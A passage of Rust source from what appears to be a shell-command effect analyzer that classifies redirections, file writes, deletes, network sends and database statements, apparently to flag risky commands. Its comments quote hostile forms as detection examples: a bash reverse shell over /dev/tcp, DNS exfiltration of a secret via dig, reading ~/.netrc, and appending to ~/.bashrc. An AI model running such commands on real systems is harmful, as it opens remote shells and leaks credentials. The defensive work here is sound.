//! From one simple command to its effects: redirections, then what the program table says
//! the program does with its arguments, then the few programs whose arguments need more
//! than a table (find, mv, ln, rsync's remote paths, database clients).

use super::model::run_time_args;
use super::{Analyzer, Arg, Command, RedirectKind, Written, path, printed_text_any_shell};
use crate::normalize::effects::{DbTarget, Effect, Kind, Source, Sql, SqlKind, Target};
use crate::normalize::programs::{
    ArgSel, EffectSpec, ParsedArgs, ProgramSpec, SqlSpec, Writes, has_sequence, wildcard,
};

/// Devices that are not files: writing or reading them touches nothing on disk.
const NOT_FILES: &[&str] = &[
    "/dev/null",
    "/dev/zero",
    "/dev/stdout",
    "/dev/stderr",
    "/dev/stdin",
    "/dev/tty",
    "/dev/random",
    "/dev/urandom",
    "/dev/full",
];

impl Analyzer {
    pub(super) fn push_effect(&mut self, index: usize, mut effect: Effect) {
        effect.command = Some(index);
        if self.commands.get(index).is_some_and(|c| c.speculative) {
            effect.certain = false;
        }
        if self.effects.len() < super::MAX_COMMANDS && !self.effects.contains(&effect) {
            self.effects.push(effect);
        }
    }

    /// Record the effects of the command at `index`.
    pub(super) fn command_effects(&mut self, index: usize) {
        let cmd = self.commands[index].clone();
        self.redirect_effects(index, &cmd);
        if cmd.program.is_empty() {
            return;
        }
        let table = self.programs.clone();
        let parsed = table.remember_args(&mut self.commands[index]);
        let cmd = Command {
            args: run_time_args(&cmd),
            ..cmd
        };
        let spec = table.spec_of(&parsed);
        let defaults;
        let specs: &[EffectSpec] = match &spec.effects {
            Some(list) => list,
            None => {
                defaults = default_effects(spec.writes);
                &defaults
            }
        };
        let chdir = spec
            .chdir_options
            .iter()
            .find_map(|o| parsed.values_of(std::slice::from_ref(o)).next())
            .cloned();
        let base = chdir
            .as_ref()
            .and_then(|dir| self.resolve_path(dir, cmd.cwd.as_deref()))
            .or_else(|| cmd.cwd.clone());
        // A folder given as a pattern or a run-time value (`tar -C ~/.code*`) makes every
        // path under it one too.
        let base = Base {
            dir: base.as_deref(),
            glob: chdir.as_ref().is_some_and(|d| d.glob),
            dynamic: chdir.as_ref().is_some_and(|d| d.dynamic),
        };
        for e in specs {
            self.table_effect(index, &cmd, &parsed, spec, e, &base);
        }
        match cmd.program.as_str() {
            "find" => self.find_effects(index, &cmd, &parsed),
            "mv" => self.move_effects(index, &cmd, &parsed),
            "ln" => self.link(&cmd, &parsed),
            "patch" | "gpatch" => self.patch_effects(index, &cmd, &parsed, false),
            "sqlite3" if read_only_sql(&parsed.operands) => self.effects_of_reads_only(index),
            "sqlite3" => self.sqlite_file_writes(index, &cmd, &parsed),
            "git" if parsed.subcommand() == Some("apply") => {
                self.patch_effects(index, &cmd, &parsed, true)
            }
            "git" if parsed.subcommand() == Some("clone") => {
                self.clone_effects(index, &cmd, &parsed)
            }
            "git" => self.work_tree_effects(index, &cmd, &parsed),
            "docker" | "podman" | "nerdctl" | "finch"
                if matches!(parsed.subcommand(), Some("run" | "create")) =>
            {
                self.mount_effects(index, &cmd, &parsed)
            }
            "http.server" | "http-server" | "serve" | "httpd" => {
                // A web server hands out every file under the folder it serves.
                let options = [
                    "-d".to_string(),
                    "--directory".to_string(),
                    "-h".to_string(),
                ];
                let dir = parsed
                    .values_of(&options)
                    .next()
                    .cloned()
                    .or_else(|| {
                        parsed
                            .operands
                            .iter()
                            .find(|o| !o.text.chars().all(|c| c.is_ascii_digit()))
                            .cloned()
                    })
                    .unwrap_or_else(|| Arg::literal("."));
                if let Some(target) = self.target(&dir, cmd.cwd.as_deref()) {
                    let e = Effect::new(Kind::Read, target, format!("{} serves", cmd.program))
                        .recursive(true);
                    self.push_effect(index, e);
                }
            }
            _ => {}
        }
        if let Some(sql) = &spec.sql {
            self.sql_effect(index, &cmd, &parsed, sql);
        }
    }

    /// `<`, `>`, `>>`, and `/dev/tcp/HOST/PORT`: what the shell does for the command.
    fn redirect_effects(&mut self, index: usize, cmd: &Command) {
        // `exec bash -i >& /dev/tcp/...` replaces the shell; `exec 5<>/dev/tcp/...` alone
        // opens a descriptor the rest of the line can run commands from (the classic
        // reverse shell), unless it reaches this machine (`exec 3<>/dev/tcp/127.0.0.1/6379`).
        let shell_like = super::wrappers::SHELLS.contains(&cmd.program.as_str())
            || super::wrappers::is_interpreter(&cmd.program);
        let bare_exec = cmd.program == "exec" && cmd.args.is_empty();
        let interactive = shell_like || (cmd.program == "exec" && !bare_exec);
        for r in &cmd.redirects {
            let via = match r.kind {
                RedirectKind::Read => "< redirect",
                RedirectKind::Write => "> redirect",
                RedirectKind::Append => ">> redirect",
            };
            if let Some(host) = dev_tcp_host(&r.target.text) {
                let mut net = Effect::new(Kind::Net, Target::Name(host.clone()), via);
                net.send = r.kind != RedirectKind::Read;
                self.push_effect(index, net);
                if interactive || (bare_exec && !crate::normalize::host::is_loopback(&host)) {
                    // `bash -i >& /dev/tcp/h/p 0>&1`: a shell wired to a socket.
                    let exec = Effect::new(Kind::Exec, Target::Name(host), "shell on a socket")
                        .from_source(Source::Network);
                    self.push_effect(index, exec);
                }
                continue;
            }
            let Some(target) = self.target(&r.target, cmd.cwd.as_deref()) else {
                continue;
            };
            match r.kind {
                RedirectKind::Read => self.push_effect(index, Effect::new(Kind::Read, target, via)),
                RedirectKind::Write | RedirectKind::Append => {
                    if let Target::Path(p) = &target {
                        let content = match printed_text_any_shell(cmd) {
                            Some(text) => Some(Written::Text(text)),
                            None => self
                                .classify(std::slice::from_ref(&cmd.program))
                                .or(cmd.fed_source.filter(|_| passes_input(&cmd.program)))
                                .map(Written::From),
                        };
                        if let Some(content) = content {
                            if let Written::Text(text) = &content {
                                self.plant(p, text);
                            }
                            self.record_written(p, content);
                        }
                    }
                    let mut effect = Effect::new(Kind::Write, target, via)
                        .truncating(r.kind == RedirectKind::Write);
                    if let Some(text) = printed_text_any_shell(cmd) {
                        effect = effect.with_content(&text);
                    }
                    self.push_effect(index, effect);
                }
            }
        }
    }

    fn record_written(&mut self, path: &str, content: Written) {
        if self.written.len() < 256 {
            // `>>` adds to what an earlier write put there.
            let merged = match (self.written.remove(path), content) {
                (Some(Written::Text(old)), Written::Text(new)) => Written::Text(old + "\n" + &new),
                (_, c) => c,
            };
            self.written.insert(path.to_string(), merged);
        }
    }

    fn table_effect(
        &mut self,
        index: usize,
        cmd: &Command,
        parsed: &ParsedArgs,
        spec: &ProgramSpec,
        e: &EffectSpec,
        base: &Base,
    ) {
        let Some(kind) = e.kind else { return };
        if (!e.when.is_empty() && !parsed.has_any(&e.when)) || parsed.has_any(&e.unless) {
            return;
        }
        if !e.when_operand.is_empty()
            && !parsed
                .operands
                .iter()
                .any(|o| e.when_operand.iter().any(|p| wildcard(p, &o.text)))
        {
            return;
        }
        let via = if cmd.program.is_empty() {
            "command".to_string()
        } else {
            spec_label(cmd, parsed)
        };
        let recursive = e.recursive || parsed.has_any(&e.recursive_flags);
        // Effects on a named thing (a registry, a credential store, a tool's settings).
        // A net effect with a `name` reaches a service the words do not spell as a host
        // (`rclone rcat remote:path`).
        if matches!(kind, Kind::Publish | Kind::Credential | Kind::Config)
            || (kind == Kind::Net && e.name.is_some())
        {
            let name = e.name.clone().unwrap_or_else(|| cmd.program.clone());
            let mut effect = Effect::new(kind, Target::Name(name), via);
            effect.send = e.send;
            self.push_effect(index, effect);
            return;
        }
        if kind == Kind::Exec
            && e.args == crate::normalize::programs::ArgSel::None
            && e.options.is_empty()
        {
            let mut effect = Effect::new(kind, Target::None, via);
            effect.source = e.source;
            self.push_effect(index, effect);
            return;
        }
        let mut words: Vec<Arg> = match e.args {
            ArgSel::Folder => vec![Arg::literal(".")],
            ArgSel::Pathspec => {
                let n = parsed.operands.len();
                parsed.operands[n - parsed.after_dashdash.min(n)..].to_vec()
            }
            sel => sel.pick(&parsed.operands).to_vec(),
        };
        words.extend(parsed.values_of(&e.options).cloned());
        for word in words {
            let word = match &e.prefix {
                Some(prefix) => match strip_prefix(&word, prefix) {
                    Some(w) => w,
                    None => continue,
                },
                None => word,
            };
            let word = match e.field {
                Some(n) => match colon_field(&word.text, n) {
                    Some(f) => Arg { text: f, ..word },
                    None => continue,
                },
                None => word,
            };
            if word.text.is_empty() || word.text == "-" {
                continue;
            }
            // rm refuses `.` and `..` (`rm -rf .` deletes nothing: "refusing to remove").
            if kind == Kind::Delete
                && matches!(cmd.program.as_str(), "rm" | "rmdir" | "unlink")
                && matches!(
                    word.text.trim_end_matches('/').rsplit('/').next(),
                    Some("." | "..")
                )
                && !word.dynamic
            {
                continue;
            }
            if spec.remote_paths
                && let Some(host) = remote_host(&word.text)
            {
                // `localhost:.claude/x` is this machine's `~/.claude/x`: a local path too.
                if crate::normalize::host::is_loopback(&host)
                    && let Some((_, path)) = word.text.split_once(':')
                    && !word.dynamic
                {
                    let local = if path.starts_with('/') || path.starts_with('~') {
                        path.to_string()
                    } else {
                        format!("~/{path}")
                    };
                    if let Some(target) = self.target(&Arg::literal(&local), cmd.cwd.as_deref()) {
                        let e = Effect::new(kind, target, via.clone()).recursive(recursive);
                        self.push_effect(index, e);
                    }
                }
                let mut net = Effect::new(Kind::Net, Target::Name(host), via.clone());
                net.send = matches!(kind, Kind::Write | Kind::Delete);
                if kind != Kind::Delete {
                    self.push_effect(index, net);
                }
                continue;
            }
            if kind == Kind::Net {
                if let Some(host) = url_host(&word.text) {
                    let mut net = Effect::new(Kind::Net, Target::Name(host), via.clone());
                    net.send = e.send;
                    self.push_effect(index, net);
                } else if word.dynamic && e.send {
                    // `dig "$SECRET.x.example"`: the name is only known at run time, and
                    // it is what leaves.
                    let mut net =
                        Effect::new(Kind::Net, Target::Unknown(word.text.clone()), via.clone());
                    net.send = true;
                    self.push_effect(index, net);
                }
                continue;
            }
            if kind == Kind::Exec {
                let mut effect = Effect::new(kind, Target::Name(word.text.clone()), via.clone());
                effect.source = e.source;
                self.push_effect(index, effect);
                continue;
            }
            let word = if e.basename {
                match url_basename(&word.text) {
                    Some(b) => Arg::literal(b),
                    None => continue,
                }
            } else {
                word
            };
            let cwd = if e.basename {
                cmd.cwd.as_deref()
            } else {
                base.dir
            };
            let relative = !e.basename && !word.text.starts_with(['/', '~']);
            let word = if relative && (base.glob || base.dynamic) {
                Arg {
                    glob: word.glob || base.glob,
                    dynamic: word.dynamic || base.dynamic,
                    ..word
                }
            } else {
                word
            };
            let Some(target) = self.target(&word, cwd) else {
                continue;
            };
            if kind == Kind::Write
                && let (Target::Path(p), Some(source)) = (&target, e.source)
            {
                self.record_written(p, Written::From(source));
            }
            if kind == Kind::Write
                && let Target::Path(p) = &target
                && e.source.is_none()
                && !cmd.stdin_text.is_empty()
                && passes_input(&cmd.program)
            {
                // `tee -a ~/.bashrc` with known text on its input.
                let text = cmd.stdin_text.clone();
                self.plant(p, &text);
                self.record_written(p, Written::Text(text));
            }
            // `cp /dev/stdin FILE` copies its input like `tee FILE`.
            let copies_stdin = passes_input(&cmd.program)
                || (matches!(cmd.program.as_str(), "cp" | "install")
                    && cmd
                        .args
                        .iter()
                        .any(|a| matches!(a.text.as_str(), "/dev/stdin" | "/dev/fd/0")));
            let content = (kind == Kind::Write && copies_stdin && !cmd.stdin_text.is_empty())
                .then(|| cmd.stdin_text.clone());
            // `rm -f dir/**` (find's `{}` or globstar) deletes everything under dir.
            let below = matches!(&target, Target::Glob(g) if g.contains("/**"));
            let mut effect = Effect::new(kind, target, via.clone())
                .recursive(recursive || (below && kind == Kind::Delete))
                .truncating(e.truncate);
            if let Some(text) = &content {
                effect = effect.with_content(text);
            }
            self.push_effect(index, effect);
        }
    }

    /// `patch` and `git apply`: the files a patch names (from its text on stdin, when it is
    /// there), else what the command points at: the file `patch FILE` patches, or the
    /// folder the patch applies in (`-d`, `--directory`, the working directory), whole.
    fn patch_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs, git: bool) {
        let value = |names: &[&str]| {
            let names: Vec<String> = names.iter().map(|n| n.to_string()).collect();
            parsed.values_of(&names).next().cloned()
        };
        let dry = ["--check", "--stat", "--numstat", "--summary", "--dry-run"];
        if dry.iter().any(|f| parsed.has(f)) && !parsed.has("--apply") {
            return;
        }
        let via = if git { "git apply" } else { "patch" };
        let dir = value(&["-d", "--directory"]);
        let base = dir
            .as_ref()
            .and_then(|d| self.resolve_path(d, cmd.cwd.as_deref()))
            .or_else(|| cmd.cwd.clone());
        let strip: usize = value(&["-p", "--strip"])
            .and_then(|p| p.text.parse().ok())
            .unwrap_or(1);
        // The patch's text: on stdin, else its file (`git apply F`, `patch -i F`, `patch ORIG
        // F`, `< F`) read from disk where the call may look.
        let file = if git {
            parsed.operands.first().cloned()
        } else {
            value(&["-i", "--input"]).or_else(|| parsed.operands.get(1).cloned())
        }
        .or_else(|| {
            cmd.redirects
                .iter()
                .find(|r| r.kind == RedirectKind::Read)
                .map(|r| r.target.clone())
        });
        let from_disk = match (&cmd.stdin_text, file) {
            (text, _) if !text.is_empty() => None,
            (_, Some(f)) if !f.dynamic => self
                .resolve_path(&f, cmd.cwd.as_deref())
                .and_then(|p| self.disk.read_file(&p, 1 << 20)),
            _ => None,
        };
        let text = match &from_disk {
            Some(Ok(text)) => text.as_str(),
            _ => cmd.stdin_text.as_str(),
        };
        let mut targets: Vec<(Arg, bool)> = patched_paths(text)
            .into_iter()
            .map(|p| {
                let stripped: Vec<&str> = p.split('/').skip(strip).collect();
                let rel = if stripped.is_empty() {
                    p.clone()
                } else {
                    stripped.join("/")
                };
                (Arg::literal(&rel), false)
            })
            .collect();
        if let Some(out) = value(&["-o", "--output"]).filter(|_| !git) {
            targets = vec![(out, false)];
        }
        if targets.is_empty() {
            let includes = value(&["--include"]);
            let named = (!git).then(|| parsed.operands.first().cloned()).flatten();
            match (includes, named) {
                (Some(glob), _) => targets.push((Arg { glob: true, ..glob }, false)),
                (None, Some(file)) => targets.push((file, false)),
                (None, None) => targets.push((Arg::literal("."), true)),
            }
        }
        for (word, whole) in targets.into_iter().take(256) {
            let Some(target) = self.target(&word, base.as_deref()) else {
                continue;
            };
            // A patch edits the files it names; only where it cannot be read is it a whole
            // folder, and then it still edits rather than replaces.
            let effect = Effect::new(Kind::Write, target, via)
                .recursive(whole)
                .truncating(!whole);
            self.push_effect(index, effect);
        }
    }

    /// Git commands that rewrite a work tree named elsewhere (`--work-tree=$HOME`,
    /// `GIT_WORK_TREE=~`, `-C ~`: the bare-repository dotfiles pattern) or into a prefix
    /// (`checkout-index --prefix=`, `read-tree --prefix= -u`): the whole tree is written.
    fn work_tree_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
        const REWRITES: &[&str] = &[
            "checkout",
            "switch",
            "reset",
            "restore",
            "read-tree",
            "checkout-index",
            "stash",
            "merge",
            "pull",
            "cherry-pick",
            "am",
            "rebase",
            "revert",
        ];
        let Some(sub) = parsed.subcommand().filter(|s| REWRITES.contains(s)) else {
            return;
        };
        let value = |names: &[&str]| {
            let names: Vec<String> = names.iter().map(|n| n.to_string()).collect();
            parsed.values_of(&names).next().cloned()
        };
        let mut trees: Vec<Arg> = Vec::new();
        trees.extend(value(&["--work-tree"]));
        trees.extend(
            cmd.assignments
                .iter()
                .filter(|(name, _)| name == "GIT_WORK_TREE")
                .map(|(_, v)| v.clone()),
        );
        if trees.is_empty()
            && let Some(dir) = value(&["-C"])
        {
            trees.push(dir);
        }
        let prefix = cmd.args.iter().find_map(|a| {
            a.text.strip_prefix("--prefix=").map(|p| Arg {
                text: p.to_string(),
                ..a.clone()
            })
        });
        if let Some(p) = prefix.filter(|_| matches!(sub, "checkout-index" | "read-tree")) {
            trees.push(p);
        }
        for tree in trees {
            if let Some(target) = self.target(&tree, cmd.cwd.as_deref()) {
                let e = Effect::new(Kind::Write, target, format!("git {sub} (work tree)"))
                    .recursive(true)
                    .truncating(true);
                self.push_effect(index, e);
            }
        }
    }

    /// `select writefile('PATH', ...)`: SQLite writes a file of its own.
    fn sqlite_file_writes(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
        for statement in parsed.operands.iter().skip(1).filter(|a| !a.dynamic) {
            let lower = statement.text.to_ascii_lowercase();
            for (at, _) in lower.match_indices("writefile(").take(16) {
                let rest = statement.text[at + 10..].trim_start();
                let Some(quote) = rest.chars().next().filter(|c| matches!(c, '\'' | '"')) else {
                    continue;
                };
                if let Some(path) = rest[1..].split(quote).next()
                    && let Some(target) = self.target(&Arg::literal(path), cmd.cwd.as_deref())
                {
                    let e =
                        Effect::new(Kind::Write, target, "sqlite3 writefile()").truncating(true);
                    self.push_effect(index, e);
                }
            }
        }
    }

    /// Drop the write effects a command's table entry gave it (it only reads).
    fn effects_of_reads_only(&mut self, index: usize) {
        self.effects
            .retain(|e| !(e.command == Some(index) && e.kind == Kind::Write));
    }

    /// `find START... -delete`: a recursive delete of each starting point.
    fn find_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
        if !parsed.has("-delete") {
            return;
        }
        for start in super::find_targets(cmd) {
            if let Some(target) = self.target(&start, cmd.cwd.as_deref()) {
                self.push_effect(
                    index,
                    Effect::new(Kind::Delete, target, "find -delete").recursive(true),
                );
            }
        }
    }

    /// `mv SRC... DEST`: each source moves away; to /dev/null it is gone.
    fn move_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
        let target_dir = parsed
            .values_of(&["-t".into(), "--target-directory".into()])
            .next()
            .cloned();
        let (sources, dest): (&[Arg], Option<Arg>) = match &target_dir {
            Some(d) => (&parsed.operands[..], Some(d.clone())),
            None if parsed.operands.len() >= 2 => (
                &parsed.operands[..parsed.operands.len() - 1],
                parsed.operands.last().cloned(),
            ),
            None => return,
        };
        let dest_target = dest
            .as_ref()
            .and_then(|d| self.target(d, cmd.cwd.as_deref()));
        let to_null = dest
            .as_ref()
            .and_then(|d| self.resolve_path(d, cmd.cwd.as_deref()))
            .is_some_and(|p| p == "/dev/null");
        for src in sources {
            let Some(target) = self.target(src, cmd.cwd.as_deref()) else {
                continue;
            };
            let effect = if to_null {
                Effect::new(Kind::Delete, target, "mv to /dev/null").recursive(true)
            } else {
                let mut m = Effect::new(Kind::Move, target, "mv").recursive(true);
                m.to = dest_target.clone();
                m
            };
            self.push_effect(index, effect);
        }
        if let Some(t) = dest_target {
            self.push_effect(index, Effect::new(Kind::Write, t, "mv").truncating(true));
        }
    }

    /// `ln -s TARGET LINK`: later paths through LINK are paths to TARGET.
    fn link(&mut self, cmd: &Command, parsed: &ParsedArgs) {
        let [target, link] = parsed.operands.as_slice() else {
            return;
        };
        let (Some(t), Some(l)) = (
            self.resolve_path(target, cmd.cwd.as_deref()),
            self.resolve_path(link, cmd.cwd.as_deref()),
        ) else {
            return;
        };
        if self.links.len() < 64 {
            self.links.push((l, t));
        }
    }

    /// `git clone URL [DIR]`: DIR holds code from the network.
    fn clone_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
        let Some(url) = parsed.operands.first() else {
            return;
        };
        let dir = match parsed.operands.get(1) {
            Some(d) => d.clone(),
            None => match url_basename(&url.text) {
                Some(b) => Arg::literal(b.trim_end_matches(".git")),
                None => return,
            },
        };
        if let Some(Target::Path(p)) = self.target(&dir, cmd.cwd.as_deref()) {
            self.record_written(&p, Written::From(Source::Network));
            let w = Effect::new(Kind::Write, Target::Path(p), "git clone").recursive(true);
            self.push_effect(index, w);
        }
    }

    /// `docker run -v HOST:CTR` and `--mount type=bind,source=HOST`: the container reads
    /// and writes HOST and everything under it.
    fn mount_effects(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs) {
        let options = [
            "-v".to_string(),
            "--volume".to_string(),
            "--mount".to_string(),
        ];
        let values: Vec<Arg> = parsed.values_of(&options).cloned().collect();
        for value in values {
            let host = if value.text.contains("source=") || value.text.contains("src=") {
                value
                    .text
                    .split(',')
                    .find_map(|p| p.strip_prefix("source=").or_else(|| p.strip_prefix("src=")))
                    .map(str::to_string)
            } else {
                value.text.split(':').next().map(str::to_string)
            };
            let Some(host) = host.filter(|h| h.starts_with(['/', '~', '.']) || value.dynamic)
            else {
                continue;
            };
            let word = Arg {
                text: host,
                ..value.clone()
            };
            // `-v src:dst:ro`, `--mount ...,readonly`: the container cannot write there.
            let read_only = value
                .text
                .split([':', ','])
                .skip(1)
                .any(|o| matches!(o, "ro" | "readonly" | "ro=true" | "readonly=true"));
            if let Some(target) = self.target(&word, cmd.cwd.as_deref()) {
                let read =
                    Effect::new(Kind::Read, target.clone(), "container mount").recursive(true);
                self.push_effect(index, read);
                if !read_only {
                    let write = Effect::new(Kind::Write, target, "container mount").recursive(true);
                    self.push_effect(index, write);
                }
            }
        }
    }

    /// Statements a database client sends, and to where.
    fn sql_effect(&mut self, index: usize, cmd: &Command, parsed: &ParsedArgs, spec: &SqlSpec) {
        let mut kinds: Vec<SqlKind> = Vec::new();
        let add = |k: SqlKind, kinds: &mut Vec<SqlKind>| {
            if !kinds.contains(&k) {
                kinds.push(k);
            }
        };
        let mut texts: Vec<String> = parsed
            .values_of(&spec.statement_options)
            .map(|a| a.text.clone())
            .collect();
        if spec.statement_operands {
            texts.push(
                parsed
                    .operands
                    .iter()
                    .map(|a| a.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" "),
            );
        }
        if spec.stdin {
            if !cmd.stdin_text.is_empty() {
                texts.push(cmd.stdin_text.clone());
            } else if cmd.redirects.iter().any(|r| r.kind == RedirectKind::Read)
                || (!cmd.fed_by.is_empty() && cmd.stdin_text.is_empty())
            {
                add(SqlKind::Unknown, &mut kinds);
            }
        }
        if parsed.values_of(&spec.file_options).next().is_some() {
            add(SqlKind::Unknown, &mut kinds);
        }
        for text in &texts {
            for k in classify_sql(text) {
                add(k, &mut kinds);
            }
        }
        if let Some(k) = spec.implicit.as_deref().and_then(SqlKind::from_id) {
            add(k, &mut kinds);
        }
        let words: Vec<&str> = cmd.args.iter().map(|a| a.text.as_str()).collect();
        if spec.tasks.iter().any(|t| has_sequence(t, &words)) {
            add(SqlKind::Reset, &mut kinds);
        }
        if parsed.has_any(&spec.read_options)
            || parsed.values_of(&spec.read_options).next().is_some()
        {
            add(SqlKind::Read, &mut kinds);
        }
        if kinds.is_empty() {
            return;
        }
        let mut targets: Vec<DbTarget> = Vec::new();
        for (name, value) in &parsed.values {
            if spec.target_options.iter().any(|o| o == name) {
                targets.push(DbTarget {
                    text: value.text.clone(),
                    dynamic: value.dynamic,
                    from: name.clone(),
                });
            }
        }
        if spec.target_operands {
            for op in &parsed.operands {
                if spec.statement_operands {
                    continue;
                }
                targets.push(DbTarget {
                    text: op.text.clone(),
                    dynamic: op.dynamic,
                    from: "operand".into(),
                });
            }
        }
        // `rake db:drop RAILS_ENV=production`: environment given as an argument.
        for arg in &cmd.args {
            if let Some((name, value)) = arg.text.split_once('=')
                && spec.target_env.iter().any(|e| e == name)
            {
                targets.push(DbTarget {
                    text: value.to_string(),
                    dynamic: arg.dynamic,
                    from: name.to_string(),
                });
            }
        }
        for name in &spec.target_env {
            let assigned = cmd.assignments.iter().rev().find(|(n, _)| n == name);
            let (text, dynamic) = match assigned {
                Some((_, v)) => (v.text.clone(), v.dynamic),
                None => match self.vars.get(name) {
                    Some(Some(v)) => (v.clone(), false),
                    Some(None) => (format!("${name}"), true),
                    None => continue,
                },
            };
            targets.push(DbTarget {
                text,
                dynamic,
                from: name.clone(),
            });
        }
        for remote in &cmd.remote {
            targets.push(DbTarget {
                text: remote.clone(),
                dynamic: false,
                from: "runs on".into(),
            });
        }
        let mut effect = Effect::new(Kind::Sql, Target::None, cmd.program.clone());
        effect.sql = Some(Sql { kinds, targets });
        self.push_effect(index, effect);
        // `COPY t TO PROGRAM 'cmd'`, psql's `\copy ... to program '...'` and `\o |cmd`: shell
        // commands the client or server runs with the rows on their input.
        for text in &texts {
            for code in commands_fed_rows(text).into_iter().take(4) {
                let before = self.commands.len();
                self.script(&code, Some("SQL to program"), true);
                let program = cmd.program.clone();
                for fed in &mut self.commands[before..] {
                    fed.fed_by.push(program.clone());
                }
            }
        }
    }

    /// A word as an effect's target, resolved against `cwd` and links made earlier.
    pub(super) fn target(&self, word: &Arg, cwd: Option<&str>) -> Option<Target> {
        if word.dynamic {
            return Some(Target::Unknown(word.text.clone()));
        }
        let resolved = self.resolve_path(word, cwd)?;
        if NOT_FILES.contains(&resolved.as_str()) || resolved.starts_with("/dev/fd/") {
            return None;
        }
        if word.glob {
            return Some(Target::Glob(resolved));
        }
        Some(Target::Path(resolved))
    }

    pub(super) fn resolve_path(&self, word: &Arg, cwd: Option<&str>) -> Option<String> {
        if word.dynamic {
            return None;
        }
        let mut resolved = path::resolve(&word.text, cwd, self.home.as_deref())?;
        for (link, target) in self.links.iter().rev() {
            if resolved == *link {
                resolved = target.clone();
            } else if let Some(rest) = resolved.strip_prefix(&format!("{link}/")) {
                resolved = format!("{target}/{rest}");
            }
        }
        Some(resolved)
    }
}

/// The folder a program's relative paths are in (its `-C` value, else the working folder),
/// and whether that folder was given as a pattern or a run-time value.
struct Base<'a> {
    dir: Option<&'a str>,
    glob: bool,
    dynamic: bool,
}

/// `sqlite3 DB 'SELECT ...'`: every statement given reads (a query, a schema listing); a
/// statement that writes, attaches, or writes a file, and statements on stdin, do not.
fn read_only_sql(operands: &[Arg]) -> bool {
    let statements: Vec<&Arg> = operands.iter().skip(1).collect();
    if statements.is_empty() || statements.iter().any(|a| a.dynamic) {
        return false;
    }
    let text = statements
        .iter()
        .map(|a| a.text.to_ascii_lowercase())
        .collect::<Vec<_>>()
        .join(";");
    const WRITES: &[&str] = &[
        "insert",
        "update",
        "delete",
        "drop",
        "alter",
        "create",
        "replace",
        "attach",
        "vacuum",
        "reindex",
        "writefile",
        "load_extension",
        "edit(",
        ".output",
        ".once",
        ".import",
        ".restore",
        ".save",
        ".backup",
        ".clone",
        ".shell",
        ".system",
        ".read",
        "=",
    ];
    !WRITES.iter().any(|w| text.contains(w))
        && text
            .split(';')
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .all(|s| {
                [
                    "select", "with", "explain", "pragma", ".schema", ".tables", ".indexes",
                    ".dump", ".mode", ".headers",
                ]
                .iter()
                .any(|k| s.starts_with(k))
            })
}

/// The files a unified, git or Codex patch names (`+++ b/x`, `diff --git a/x b/y`,
/// `rename to x`, `*** Update File: x`), as written in it.
fn patched_paths(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut add = |p: &str| {
        let p = p.split('\t').next().unwrap_or("").trim().trim_matches('"');
        if !p.is_empty() && p != "/dev/null" && !out.iter().any(|o| o == p) && out.len() < 256 {
            out.push(p.to_string());
        }
    };
    for line in text.lines() {
        if let Some(p) = line
            .strip_prefix("+++ ")
            .or_else(|| line.strip_prefix("--- "))
        {
            add(p);
        } else if let Some(rest) = line.strip_prefix("diff --git ") {
            rest.split_whitespace().for_each(&mut add);
        } else if let Some(p) = line
            .strip_prefix("rename to ")
            .or_else(|| line.strip_prefix("copy to "))
        {
            // Git names these without the a/ b/ prefix: give them one, as -p1 strips it.
            add(&format!("b/{p}"));
        } else if let Some(p) = [
            "*** Update File: ",
            "*** Add File: ",
            "*** Delete File: ",
            "*** Move to: ",
        ]
        .iter()
        .find_map(|m| line.strip_prefix(m))
        {
            add(&format!("b/{p}"));
        }
    }
    out
}

/// Without a list in the table, a program reads its operands (and writes the ones its
/// `writes` names): `base64 ~/.netrc` reads the file whatever base64 is for.
fn default_effects(writes: Writes) -> Vec<EffectSpec> {
    use crate::normalize::programs::ArgSel;
    let read = |args| EffectSpec {
        kind: Some(Kind::Read),
        args,
        ..Default::default()
    };
    let write = |args| EffectSpec {
        kind: Some(Kind::Write),
        truncate: true,
        args,
        ..Default::default()
    };
    match writes {
        Writes::None => vec![read(ArgSel::Operands)],
        Writes::Last => vec![read(ArgSel::Init), write(ArgSel::Last)],
        Writes::All => vec![write(ArgSel::Operands)],
    }
}

/// Programs whose output is their input (so a file written from them holds what they read).
fn passes_input(program: &str) -> bool {
    matches!(program, "cat" | "tee" | "dd" | "sponge" | "pv" | "buffer")
}

fn spec_label(cmd: &Command, parsed: &ParsedArgs) -> String {
    let mut label = cmd.program.clone();
    for sub in parsed.subcommands.iter().take(2) {
        label.push(' ');
        label.push_str(sub);
    }
    label
}

/// `@file` or `name=@file` (curl -F): the word after the prefix.
fn strip_prefix(word: &Arg, prefix: &str) -> Option<Arg> {
    let text = word.text.as_str();
    let rest = text.strip_prefix(prefix).or_else(|| {
        text.find(&format!("={prefix}"))
            .map(|at| &text[at + 1 + prefix.len()..])
    })?;
    // `-F f=@file;type=text/plain`
    let rest = rest.split(';').next().unwrap_or(rest);
    Some(Arg {
        text: rest.to_string(),
        ..word.clone()
    })
}

/// `/dev/tcp/HOST/PORT` and `/dev/udp/...`: bash opens a socket.
fn dev_tcp_host(target: &str) -> Option<String> {
    let rest = target
        .strip_prefix("/dev/tcp/")
        .or_else(|| target.strip_prefix("/dev/udp/"))?;
    Some(rest.split('/').next().unwrap_or(rest).to_ascii_lowercase())
}

/// `host:path` or `user@host:path` as scp and rsync read it (not `./a:b`, not a URL).
fn remote_host(word: &str) -> Option<String> {
    if let Some(rest) = word.strip_prefix("rsync://") {
        return Some(crate::normalize::host::normalize_host(&host_of(rest)));
    }
    let (before, _) = word.split_once(':')?;
    if before.is_empty() || before.contains('/') || word.contains("://") {
        return None;
    }
    Some(crate::normalize::host::normalize_host(&host_of(before)))
}

fn host_of(authority: &str) -> String {
    let no_path = authority.split('/').next().unwrap_or(authority);
    let no_user = no_path.rsplit('@').next().unwrap_or(no_path);
    let host = if no_user.starts_with('[') {
        no_user
            .split(']')
            .next()
            .unwrap_or(no_user)
            .trim_start_matches('[')
    } else {
        no_user.split(':').next().unwrap_or(no_user)
    };
    host.to_ascii_lowercase()
}

/// The host of a URL or a bare `host[:port][/path]` word; None for words that are not one.
